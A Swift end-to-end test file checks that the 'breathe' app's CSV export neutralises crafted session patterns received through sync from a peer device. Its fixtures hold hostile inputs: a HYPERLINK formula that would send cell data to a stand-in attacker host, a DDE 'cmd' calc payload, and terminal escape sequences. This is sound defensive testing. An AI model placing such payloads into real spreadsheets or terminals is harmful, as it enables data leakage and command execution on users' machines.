import Foundation
import Testing

/// `breathe export --format csv` of patterns a peer crafted, arriving through a sync copy:
/// RFC 4180 in a file and a pipe, lines on a terminal, no escape obeyed, no formula run.
@Suite struct CSVExportEndToEndTests {
    /// The peer's patterns, as JSON text, and the cell each must become (written by hand).
    static let crafted: [(id: String, json: String, cell: String)] = [
        ("p1", #"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"#, #""'=HYPERLINK(""https://evil.example/?""&A1,""open"")""#),
        ("p2", #"\u001b]0;pwned\u0007 4-6"#, "]0;pwned 4-6"),
        ("p3", #"\u009b@SUM(1+1)"#, "'@SUM(1+1)"),
        ("p4", #"-2+3\r\n=1+1"#, "'-2+3  =1+1"),
        ("p5", #"+1+cmd|' /C calc'!A0"#, "'+1+cmd|' /C calc'!A0"),
        ("p6", "-3", "-3"),
        ("p7", #"\u202e6-4"#, "6-4"),
    ]

    static let expectedRows = ["id,startedAt,endedAt,programID,program,lessonID,lesson,pattern,plannedSeconds,practicedSeconds,counted,endReason,patternTo,holds"]
        + crafted.enumerated().map { index, session in
            "\(session.id),2026-11-02T21:0\(index):00+01:00,2026-11-02T21:0\(index):30+01:00,,,,,\(session.cell),120,30,false,quit,,"
        }

    /// A sync folder that another device (its own HOME) filled with the crafted sessions,
    /// synced into this device.
    func receiveFromPeer() throws -> (TestHome, TestHome) {
        let peer = try TestHome(), home = try TestHome()
        let shared = peer.root + "/shared"
        try FileManager.default.createDirectory(atPath: shared, withIntermediateDirectories: true)
        let sessions = Self.crafted.enumerated().map { index, session in
            sessionRecord(session.id, pattern: session.json, startedAt: "2026-11-02T21:0\(index):00+01:00", endedAt: "2026-11-02T21:0\(index):30+01:00", practiced: "30", endReason: "quit")
        }
        try peer.importSessions(sessions)
        let sent = try peer.breathe(["sync", "--folder", shared])
        #expect(sent.status == 0, "\(sent.stderr)")
        #expect(unwrapped(sent.stdout).contains("\(Self.crafted.count) sent"), "\(sent.stdout)")
        let received = try home.breathe(["sync", "--folder", shared])
        #expect(received.status == 0, "\(received.stderr)")
        #expect(unwrapped(received.stdout).contains("\(Self.crafted.count) sessions received"), "\(received.stdout)")
        return (peer, home)
    }

    @Test func aPeersCraftedPatternsAreSafeInAFileAndAPipe() throws {
        let (peer, home) = try receiveFromPeer()
        defer { peer.remove(); home.remove() }
        let document = Data(Self.expectedRows.map { $0 + "\r\n" }.joined().utf8)

        let file = home.root + "/sessions.csv"
        let exported = try home.breathe(["export", "--format", "csv", "--output", file])
        #expect(exported.status == 0, "\(exported.stderr)")
        let written = try Data(contentsOf: URL(fileURLWithPath: file))
        #expect(written == document, "\(String(decoding: written, as: UTF8.self))")

        let piped = try home.runBytes(try breatheBinary(), ["export", "--format", "csv"])
        #expect(piped.status == 0)
        #expect(piped.stdout == document, "\(String(decoding: piped.stdout, as: UTF8.self))")
        // No control byte but the CRLF of each row.
        for bytes in [written, piped.stdout] {
            #expect(!bytes.contains { $0 < 0x20 && $0 != 0x0D && $0 != 0x0A || $0 == 0x7F })
            #expect(!containsC1CSI(bytes))
        }
    }

    @Test func onATerminalEachRowIsALineAndNoEscapeIsObeyed() throws {
        let (peer, home) = try receiveFromPeer()
        defer { peer.remove(); home.remove() }
        let terminal = try TerminalSession(arguments: ["export", "--format", "csv"], width: 200, height: 30, environment: ["HOME": home.home, "TMPDIR": home.tmp])
        let (status, screen) = try terminal.waitForExit()
        #expect(status == 0, "\(screen)")
        let lines = screen.split(separator: "\n", omittingEmptySubsequences: false).map { String($0).trimmingCharacters(in: .whitespaces) }
        let shown = Array(lines.prefix(Self.expectedRows.count))
        #expect(shown == Self.expectedRows, "\(screen)")
        #expect(!screen.contains("\u{FFFD}"), "\(screen)")
        // The window title was never set by the pattern's OSC.
        let title = try run("/usr/bin/tmux", ["-L", terminal.socket, "display-message", "-p", "#{pane_title}"]).stdout
        #expect(!title.contains("pwned"), "\(title)")
    }
}
